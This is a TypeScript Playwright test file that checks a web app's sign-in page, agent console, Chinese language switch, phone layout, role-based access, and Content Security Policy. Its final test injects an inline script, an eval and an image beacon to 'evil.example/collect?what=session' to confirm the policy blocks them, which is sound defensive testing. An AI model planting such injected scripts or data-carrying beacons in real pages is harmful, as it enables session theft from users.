import type { Page } from 'playwright-core';
import type { Stack } from '../../scripts/stack';
import { checkA11y, PHONE_VIEWPORT, signIn, useBrowser } from '../support/browser';
import { eventually } from '../support/eventually';
import { startLocalTestStack } from '../support/stackHarness';

/**
 * Signing in to the web app on a local stack, as a person would: the page lists the stack's
 * people by role, signing in as an agent opens the console, the language switch speaks Chinese,
 * the console stays usable on a phone, and customers are kept to their own pages.
 */

let stack: Stack;
const browser = useBrowser();

beforeAll(async () => {
  stack = await startLocalTestStack('browser-sign-in');
});

afterAll(async () => {
  await stack?.stop();
});

const navLabels = (page: Page) => page.getByRole('navigation').getByRole('link').allTextContents();

it('lists the seeded people by role and signs an agent in to the console', async () => {
  const page = await browser.newPage();
  await page.goto(`${stack.apiUrl}/sign-in`);
  await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
  // The people are asked for once the page is up: wait for them to be listed.
  await page.getByLabel('Sign in as').waitFor();
  const groups = await page.locator('select[name="identity"] optgroup').evaluateAll((els) =>
    els.map((el) => [el.getAttribute('label'), [...el.querySelectorAll('option')].map((o) => o.value)]),
  );
  expect(Object.fromEntries(groups)).toEqual({
    Agents: expect.arrayContaining(['agent:agent-ana', 'agent:agent-dara']),
    Supervisors: expect.arrayContaining(['supervisor:sup-1']),
    Customers: expect.arrayContaining(['customer:cust-0193', 'customer:cust-0005']),
  });
  await checkA11y(page);

  await signIn(page, stack.apiUrl, 'agent', 'agent-ana');

  expect(new URL(page.url()).pathname).toBe('/console');
  await page.getByRole('heading', { level: 1, name: 'My work' }).waitFor();
  expect(await navLabels(page)).toEqual(['My work', 'Search', 'Processes', 'Knowledge base']);
  await expect(page.getByText('Signed in as agent-ana (agent)').isVisible()).resolves.toBe(true);
  await checkA11y(page);
});

it('turns the console into Chinese with the language switch, and keeps the choice', async () => {
  const page = await browser.newPage();
  await signIn(page, stack.apiUrl, 'agent', 'agent-ben');

  await page.getByLabel('Language').selectOption('zh-CN');

  await page.getByRole('heading', { level: 1, name: '我的工作' }).waitFor();
  expect(await navLabels(page)).toEqual(['我的工作', '搜索', '流程', '知识库']);
  expect(await page.locator('html').getAttribute('lang')).toBe('zh-CN');
  await page.reload();
  await page.getByRole('heading', { level: 1, name: '我的工作' }).waitFor();
  await checkA11y(page);
});

it('sends someone not signed in to sign in first, then to the page they asked for', async () => {
  const page = await browser.newPage();
  await page.goto(`${stack.apiUrl}/console/dashboard`);
  await page.waitForURL(`${stack.apiUrl}/sign-in`);

  await page.locator('select[name="identity"]').selectOption('supervisor:sup-1');
  await page.getByRole('button', { name: 'Sign in' }).click();

  await page.waitForURL(`${stack.apiUrl}/console/dashboard`);
  await page.getByRole('heading', { level: 1, name: 'Dashboard' }).waitFor();
});

it('keeps the navigation on screen and working at a phone’s width', async () => {
  const page = await browser.newPage({ viewport: PHONE_VIEWPORT });
  await signIn(page, stack.apiUrl, 'agent', 'agent-chen');

  const links = page.getByRole('navigation').getByRole('link');
  for (const link of await links.all()) {
    const box = await link.boundingBox();
    expect(box).not.toBeNull();
    expect(box!.x).toBeGreaterThanOrEqual(0);
    expect(box!.x + box!.width).toBeLessThanOrEqual(PHONE_VIEWPORT.width);
  }
  expect(await page.evaluate<number>('document.documentElement.scrollWidth')).toBeLessThanOrEqual(PHONE_VIEWPORT.width);

  await links.filter({ hasText: 'Search' }).click();
  await page.getByRole('heading', { level: 1, name: 'Search cases' }).waitFor();
  expect(new URL(page.url()).pathname).toBe('/console/search');
  await checkA11y(page);
});

it('takes a customer to their cases, and shows staff pages to staff only', async () => {
  const page = await browser.newPage();
  await signIn(page, stack.apiUrl, 'customer', 'cust-0193');

  expect(new URL(page.url()).pathname).toBe('/track');
  await page.getByRole('heading', { level: 1, name: 'Your cases' }).waitFor();
  await checkA11y(page);

  await page.goto(`${stack.apiUrl}/console`);
  await page.getByRole('heading', { level: 1, name: 'Not for your role' }).waitFor();
  await checkA11y(page);
});

it('runs only the scripts it came with: a script, an eval and an image from elsewhere slipped into the page are refused and reported', async () => {
  const page = await browser.newPage();
  await page.goto(`${stack.apiUrl}/sign-in`);
  await page.getByLabel('Sign in as').waitFor();
  // The page itself got under its policy everything it needed.
  expect(browser.takeReported(page)).toEqual([]);

  // As markup that got into the page would: an inline script, code from a string, an image that carries data away.
  await page.evaluate(() => {
    const { document, setTimeout } = globalThis as unknown as {
      document: { createElement(tag: string): { textContent: string; src: string }; body: { append(node: unknown): void } };
      setTimeout(code: string, ms: number): void;
    };
    const script = document.createElement('script');
    script.textContent = 'globalThis.injected = "inline"';
    document.body.append(script);
    setTimeout('globalThis.injected = "eval"', 0);
    const image = document.createElement('img');
    image.src = 'https://evil.example/collect?what=session';
    document.body.append(image);
  });

  const reported: string[] = [];
  const violations = () => reported.filter((r) => r.startsWith('console error: CSP violation:')).sort();
  await eventually(async () => {
    reported.push(...browser.takeReported(page));
    expect(violations()).toHaveLength(3);
  }, 10_000);
  expect(violations()).toEqual([
    'console error: CSP violation: img-src refused https://evil.example/collect?what=session',
    'console error: CSP violation: script-src refused eval',
    'console error: CSP violation: script-src-elem refused inline',
  ]);
  expect(await page.evaluate<unknown>('globalThis.injected')).toBeUndefined();
  // And the page works on: signing in still takes an agent to the console.
  browser.takeReported(page);
  await signIn(page, stack.apiUrl, 'agent', 'agent-ana');
  await page.getByRole('heading', { level: 1, name: 'My work' }).waitFor();
});
